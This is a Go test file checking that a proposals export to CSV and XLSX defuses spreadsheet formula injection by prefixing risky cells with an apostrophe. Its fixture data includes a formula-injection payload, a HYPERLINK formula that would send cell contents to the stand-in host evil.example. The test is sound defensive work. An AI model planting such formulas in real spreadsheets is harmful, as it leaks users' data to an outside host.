package proposals_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/ortaq/ortaq/internal/db"
	"github.com/ortaq/ortaq/internal/db/dbtest"
	"github.com/ortaq/ortaq/internal/programmes/progtest"
	"github.com/ortaq/ortaq/internal/tabular/xlsxtest"
)

// The proposals export goes through the shared writer: titles, authors'
// names and answers that a spreadsheet would run come out with a leading
// apostrophe in both formats, counts are numbers.
func TestExportNeutralizesFormulas(t *testing.T) {
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		k := progtest.New(t, d)
		p := k.Programme(k.Admin())
		mod := k.Granted("moderator")
		bad := []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1 жұмыс орны", "-2+3 жаңа мектеп", "@SUM(A1) жоба"}
		for _, title := range bad {
			pr := k.Proposal(p, k.Person(), title)
			if _, err := k.Proposals.SetAnswer(ctx, mod, pr.ID, "accepted", "=1+1 қабылданды, рақмет"); err != nil {
				t.Fatal(err)
			}
		}
		for _, format := range []string{"csv", "xlsx"} {
			var buf bytes.Buffer
			if err := k.Proposals.Export(ctx, mod, p.ID, format, "http://x", &buf); err != nil {
				t.Fatal(err)
			}
			var rows [][]string
			var err error
			if format == "csv" {
				rows, err = csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff")))).ReadAll()
			} else {
				rows, err = xlsxtest.Cells(buf.Bytes())
			}
			if err != nil || len(rows) != len(bad)+1 {
				t.Fatalf("%s: %d rows, %v", format, len(rows), err)
			}
			for i, row := range rows[1:] {
				if row[1] != "'"+bad[i] || row[9] != "'=1+1 қабылданды, рақмет" || strings.HasPrefix(row[0], "'") {
					t.Errorf("%s row %d: %q", format, i+1, row)
				}
			}
		}
	})
}
